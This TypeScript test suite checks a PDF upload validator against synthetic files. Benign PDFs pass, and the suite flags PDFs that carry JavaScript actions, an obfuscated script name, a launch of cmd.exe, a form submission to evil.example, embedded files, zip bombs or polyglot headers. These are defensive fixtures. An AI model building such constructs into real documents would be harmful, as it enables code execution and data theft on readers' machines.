import { deflateSync } from 'node:zlib';
import { pdfFault } from '../../src/web/pdf-check.ts';

const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`9 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ...parts.map((part) => Buffer.from(part)),
    Buffer.from('trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ]);
const packed = (text: string) => deflateSync(Buffer.from(text));
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('a PDF of somebody else', () => {
  it.each<[string, Buffer]>([
    ['plain', pdf()],
    [
      'with a page and a packed drawing',
      pdf(stream('/Filter /FlateDecode', packed('BT (Surat tugas JavaScript) Tj ET'))),
    ],
    [
      'with objects packed together',
      pdf(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('3 0 << /Type /Page >>'))),
    ],
    ['that opens at its second page', pdf('3 0 obj << /OpenAction [4 0 R /Fit] >> endobj\n')],
    ['with a link', pdf('3 0 obj << /A << /S /URI /URI (https://example.go.id) >> >> endobj\n')],
    [
      'with a picture whose bytes are anything',
      pdf(stream('/Subtype /Image /Filter /DCTDecode', Buffer.alloc(5000, 0x2f))),
    ],
    [
      'with a large packed picture',
      pdf(stream('/Subtype /Image /Filter /FlateDecode', deflateSync(Buffer.alloc(9_000_000)))),
    ],
  ])('%s is a letter like any other', (_name, bytes) => expect(pdfFault(bytes)).toBeNull());

  it.each<[string, Buffer]>([
    ['runs a script', pdf(`3 0 obj ${script} endobj\n`)],
    ['hides its script behind numbers', pdf('3 0 obj << /S /J#61va#53cript /JS (x) >> endobj\n')],
    [
      'packs its script with other objects',
      pdf(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`3 0 ${script}`))),
    ],
    [
      'packs it and calls the packing something else',
      pdf(stream('/Type 7 0 R /Filter [/FlateDecode]', packed(`3 0 ${script}`))),
    ],
    ['starts a program', pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj\n')],
    ['brings a file', pdf('3 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj\n')],
    ['sends a form', pdf('3 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj\n')],
    ['is a form that runs', pdf('3 0 obj << /AcroForm << /XFA 5 0 R >> >> endobj\n')],
    ['plays', pdf('3 0 obj << /Subtype /RichMedia >> endobj\n')],
  ])('that %s is not kept', (_name, bytes) => expect(pdfFault(bytes)).toBe('activeContent'));

  it.each<[string, Buffer]>([
    ['is encrypted', pdf('3 0 obj << /Encrypt 5 0 R >> endobj\n')],
    [
      'packs objects in a way of its own',
      pdf(stream('/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('x'))),
    ],
    [
      'packs objects with a predictor',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', packed('x'))),
    ],
    [
      'holds a bomb among its objects',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(20_000_000)))),
    ],
    ['has broken objects', pdf(stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('no zlib at all')))],
  ])('that %s can not be looked into', (_name, bytes) => expect(pdfFault(bytes)).toBe('unreadable'));

  it.each<[string, Buffer]>([
    ['a page', Buffer.from('<html><script>alert(1)</script>%PDF-1.7 %%EOF')],
    ['a program with a PDF behind it', Buffer.concat([Buffer.from('MZ\x90'), pdf()])],
    [
      'a PDF with an archive behind it',
      Buffer.concat([pdf(), Buffer.from('PK\x03\x04'), Buffer.alloc(3000)]),
    ],
    ['nothing', Buffer.alloc(0)],
    ['cut off', pdf().subarray(0, 40)],
  ])('is none when it is %s', (_name, bytes) => expect(pdfFault(bytes)).toBe('notPdf'));

  it('of thousands of packed bombs is unpacked to a bound', () => {
    const bomb = stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(4_000_000)));
    const begun = process.memoryUsage().rss;
    expect(pdfFault(pdf(...Array.from({ length: 900 }, () => bomb)))).toBe('unreadable');
    expect(process.memoryUsage().rss - begun).toBeLessThan(500_000_000);
  });

  it('of odd shape takes no time out of proportion', () => {
    for (const part of ['stream\n', ' obj', '<<', '/Filter [', '#4', '%PDF-1.', '/Filter    '])
      expect(pdfFault(pdf(part.repeat(400_000 / part.length)))).not.toBe('notPdf');
  });
});
